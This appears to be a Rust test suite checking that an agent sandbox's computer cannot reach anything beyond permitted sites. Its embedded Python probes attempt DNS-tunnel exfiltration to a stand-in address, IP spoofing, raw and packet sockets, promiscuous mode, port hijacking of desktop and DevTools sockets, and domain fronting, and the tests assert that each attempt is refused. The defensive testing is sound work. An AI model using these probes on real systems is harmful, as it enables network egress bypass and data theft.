//! Out of a computer that reaches the sites and nothing else (rows 19 to 23, 29 to 41, 53, 91 to 93).

use std::{
    io::{BufRead as _, BufReader, Read as _},
    process::Stdio,
};

use agentenv_tests::{Hand, Terminal};

use super::*;
use crate::{
    coalescing::{
        NAMES, WALKS, chromium_without_a_proxy, each_its_own, hub_and_gist_sites, own_browser_does_not_coalesce,
    },
    desk::all_refused,
    egress,
    limits::{LISTEN_AGAIN, STEAL},
    live::attacks::{
        all_rows_refused,
        doors::{
            row_33_absolute_form, row_34_gateway_proxy_and_metadata, row_35_nested_connect, rows_36_and_37_raw_sockets,
        },
        names::{
            QUESTION, row_29_connect_differs_from_sni, row_30_fronting_on_minted_connections,
            rows_20_and_21_addresses_in_every_spelling,
        },
    },
    pages::{loopback_is_denied, unreadable, urls_inside, webrtc_finds_no_way_out},
    python::program,
    sealed::{self, TLS},
};

/// A program that asks the computer's forward port.
fn by_the_proxy(body: &str) -> String {
    format!("PROXY = ('127.0.0.1', 3128)\n{}\n{body}", egress::CONNECT)
}

#[test]
fn rows_19_to_23_31_32_and_36_to_39_nothing_is_reached_but_the_sites() {
    let home = pc();
    let deploy = home.deploy("work");
    let terminal = Terminal::open(&deploy, PC);
    let answers = ask(
        &terminal,
        &[
            ("19", &by_the_proxy(egress::NOT_ALLOWED)),
            ("20", &by_the_proxy(&egress::each_form(&egress::ADDRESSES))),
            ("21", &by_the_proxy(&egress::each_form(&egress::ADDRESSES_OF_IPV6))),
            ("22", &by_the_proxy(egress::CASE_AND_DOT)),
            ("23", &by_the_proxy(&egress::each_form(&egress::PRETENDING))),
            ("31", &format!("{TLS}{}", sealed::NAMES_AT_AN_ADDRESS)),
            ("31 in pieces", &format!("{TLS}{}", sealed::CUT_UP)),
            ("32", &by_the_proxy(egress::OTHER_PORTS)),
            ("36", sealed::RAW),
            ("37", sealed::IPV6),
            ("38", &by_the_proxy(egress::OTHER_PROTOCOLS)),
            ("39", &format!("{QUESTION}{TUNNEL_BY_NAMES}")),
        ],
    );
    egress::denied_and_logged(&deploy, PC, &answers["19"]);
    for row in ["20", "21", "23"] {
        egress::refused_in_each_form(PC, &answers[row]);
    }
    egress::the_same_verdict(PC, &answers["22"]);
    sealed::own_name_alone(&deploy, PC, &answers["31"]);
    sealed::pieces_change_nothing(PC, &answers["31 in pieces"]);
    egress::each_refused(PC, &answers["32"]);
    all_refused(PC, &answers["36"]);
    sealed::no_ipv6(PC, &answers["37"]);
    egress::nothing_answers(PC, &answers["38"]);
    row_39_no_name_resolves_but_a_sites(&answers["39"]);
}

/// Long labels, of every type, below a site's name and beside it; and questions to another name server.
const TUNNEL_BY_NAMES: &str = r#"
def outside():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s: s.sendto(b"exfil", ("192.0.2.53", 53))
show({"names": {f"{name} {host}": [question(f"{long}.{host}", kind), question(f"{long}.{host}", kind, True)]
    for host in ("alpha.test", "example.com", "invalid") for name, kind in kinds.items()},
    "own": question("alpha.test", 1), "outside": attempt(outside)})"#;

#[track_caller]
fn row_39_no_name_resolves_but_a_sites(answer: &Value) {
    assert_eq!(answer["own"], json!([0, 1]), "{answer}");
    for (name, answers) in answer["names"].as_object().expect("answers") {
        // NXDOMAIN, by UDP and by TCP.
        assert_eq!(answers, &json!([[3, 0], [3, 0]]), "{name}: {answer}");
    }
    assert!(!answer["outside"].as_str().unwrap_or("ok").starts_with("ok"), "{answer}");
}

#[test]
fn rows_20_21_29_30_and_33_to_37_by_the_tools_of_the_live_attacks() {
    let home = pc();
    let deploy = home.deploy("work");
    let terminal = Terminal::open(&deploy, PC);
    let names = ["beta.test", "example.com", "xalpha.test", "alpha.test.evil", "198.18.0.1"];
    all_rows_refused(
        &terminal,
        &[
            ("20, 21", rows_20_and_21_addresses_in_every_spelling()),
            ("29", row_29_connect_differs_from_sni(&["alpha.test"], &names)),
            ("33", row_33_absolute_form("alpha.test")),
            ("34", row_34_gateway_proxy_and_metadata(&deploy)),
            ("35", row_35_nested_connect("alpha.test", "alpha.test")),
            ("36, 37", rows_36_and_37_raw_sockets()),
        ],
    );
    row_30_fronting_on_minted_connections(&terminal, "alpha.test", &["beta.test", "example.com"]);
}

#[test]
fn rows_40_41_and_92_pages_in_its_chromium() {
    let home = pc();
    let deploy = home.deploy("work");
    let urls = urls_inside(&deploy, PC);
    for port in ["5900", "6000", "9222"] {
        assert!(urls.iter().any(|url| url.contains(port)), "viewers, X11 and DevTools listen: {urls:?}");
    }
    loopback_is_denied(&deploy);
    webrtc_finds_no_way_out(&deploy);
    unreadable(&deploy, &urls);
}

#[test]
fn row_91_names_that_one_certificate_would_cover() {
    let home = work(&hub_and_gist_sites(), &[PC]).with("AGENTENV_TEST_BROWSER_NO_PROXY", "1");
    let deploy = home.deploy("work");
    let terminal = Terminal::open(&deploy, PC);
    let walks: Vec<(String, [String; 10], &str)> = WALKS
        .iter()
        .map(|(first, then, site)| {
            let url = format!("https://{first}/go?to=https://{then}/");
            (format!("{first}, then {then}"), chromium_without_a_proxy(&url).map(str::to_owned), *site)
        })
        .collect();
    let walk = format!(
        "import subprocess\nshow({{name: site if site in (page := subprocess.run(command, stdout=subprocess.PIPE, text=True).stdout) \
         else page for name, command, site in json.loads({:?})}})",
        json!(walks).to_string()
    );
    let answers = ask(&terminal, &[("names", NAMES), ("walks", &walk)]);
    each_its_own(&answers["names"]);
    for (name, _, site) in &walks {
        assert_eq!(answers["walks"][name], json!(site), "{name}");
    }
    own_browser_does_not_coalesce(&deploy);
}

/// Listens where the desktop's own sockets are, as others do.
const STEAL_THE_DESKTOPS: &str = r#"
show({f"{address}:{port}": attempt(lambda: steal(address, port)) for address in ("127.0.0.1", "0.0.0.0") for port in (3128, 5900, 6000, 9222)
    if (address, port) not in FREE})"#;

#[test]
fn row_93_no_connection_to_a_placed_socket_is_stolen() {
    let home = pc();
    let deploy = home.deploy("work");
    let terminal = Terminal::open(&deploy, PC);
    let answers = ask(
        &terminal,
        &[
            ("sites", &format!("{LISTEN_AGAIN}{STEAL}")),
            ("desktop", &format!("FREE = []\n{LISTEN_AGAIN}{STEAL_THE_DESKTOPS}")),
        ],
    );
    assert_eq!(answers["sites"]["answers"], 30, "every connection is answered by the site: {}", answers["sites"]);
    all_refused(PC, &answers["desktop"]);
    let hand = Hand::new(&deploy.info.computers[0].cdp_url);
    assert!(hand.look(None).colours() > 20, "the desktop is still seen");
}

/// Hears what comes to a port, until its input ends.
const HEAR: &str = r#"
import select
heard = []
tcp_socket = socket.create_server(("0.0.0.0", 5555))
udp_socket = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
udp_socket.bind(("0.0.0.0", 5555))
print("listens", flush=True)
while True:
    ready, _, _ = select.select([tcp_socket, udp_socket, sys.stdin], [], [])
    if tcp_socket in ready: heard.append(str(tcp_socket.accept()[1]))
    if udp_socket in ready: heard.append(str(udp_socket.recvfrom(100)))
    if sys.stdin in ready: break
show(heard)"#;

/// The addresses that a sandbox's interfaces have.
const INTERFACES: &str = r#"
lines = open("/proc/net/fib_trie").read().splitlines()
show(sorted({lines[n - 1].split()[-1] for n, line in enumerate(lines) if "/32 host LOCAL" in line}))"#;

/// Speaks to a neighbour as itself and as others, and tries to be somebody else on the wire.
const SPOOF: &str = r#"
import fcntl
def speak(kind, source, target):
    with socket.socket(socket.AF_INET, kind) as s:
        s.settimeout(0.5)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        s.setsockopt(0, 15, 1)
        if source: s.bind((source, 0))
        s.connect((target, 5555))
        s.send(b"spoofed")
def transparent():
    with socket.socket() as s: s.setsockopt(0, 19, 1)
def control(request, name, payload):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s: fcntl.ioctl(s, request, struct.pack("16s24s", name, payload))
def new_address():
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as s:
        body = struct.pack("BBBBI", socket.AF_INET, 32, 0, 0, socket.if_nametoindex("lo")) + struct.pack("HH4s", 8, 2, socket.inet_aton("192.0.2.9"))
        s.send(struct.pack("IHHII", 16 + len(body), 20, 0x605, 1, 0) + body)
        code = struct.unpack("i", s.recv(4096)[16:20])[0]
        if code: raise OSError(-code, "")
targets = [*NEIGHBOUR, "224.0.0.1", "255.255.255.255", "192.0.2.255", "198.19.255.255"]
for target in targets:
    for source in (None, "198.18.0.1", "192.0.2.1", *NEIGHBOUR):
        for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
            attempt(lambda: speak(kind, source, target))
inet = struct.pack("HH4s", socket.AF_INET, 0, socket.inet_aton("192.0.2.9"))
show({
    "transparent": attempt(transparent),
    "address": attempt(lambda: control(0x8916, b"lo:1", inet)),
    "address by netlink": attempt(new_address),
    "hardware address": attempt(lambda: control(0x8924, b"eth0", struct.pack("H6s", 1, b"\2\0\0\0\0\1"))),
    "promiscuous": attempt(lambda: control(0x8914, b"eth0", struct.pack("h", 0x1143))),
    "arp": attempt(lambda: control(0x8955, inet, b"")),
    "packets": attempt(lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0x300).close()),
    "raw": attempt(lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 255).close()),
})"#;

#[test]
fn row_53_spoofed_addresses_reach_no_neighbour() {
    let home = work(&[PySite::new("alpha")], &[PC, "neighbour"]);
    let deploy = home.deploy("work");
    let mut listener = home
        .command(["env", "exec", deploy.id(), "neighbour", "--", "/usr/bin/python3", "-u", "-c", &program(HEAR)])
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .spawn()
        .expect("exec starts");
    let mut said = BufReader::new(listener.stdout.take().expect("piped"));
    let mut line = String::new();
    said.read_line(&mut line).expect("it says that it listens");
    assert_eq!(line.trim(), "listens");
    let addresses = deploy.python("neighbour", &program(INTERFACES));
    assert!(addresses.as_array().is_some_and(|all| all.contains(&json!("127.0.0.1"))), "{addresses}");
    let terminal = Terminal::open(&deploy, PC);
    let spoof = format!("NEIGHBOUR = json.loads({:?})\n{SPOOF}", addresses.to_string());
    all_refused(PC, &ask(&terminal, &[("53", &spoof)])["53"]);
    // The one that is heard: there is somebody to reach.
    let own = deploy.python("neighbour", &program("show(attempt(lambda: tcp('127.0.0.1', 5555)))"));
    assert_eq!(own, "ok");
    drop(listener.stdin.take());
    let mut heard = String::new();
    said.read_to_string(&mut heard).expect("what it heard");
    listener.wait().expect("a child");
    let heard: Value = serde_json::from_str(heard.trim()).expect("JSON");
    assert_eq!(heard.as_array().map(Vec::len), Some(1), "its own connection, and nobody else's: {heard}");
}
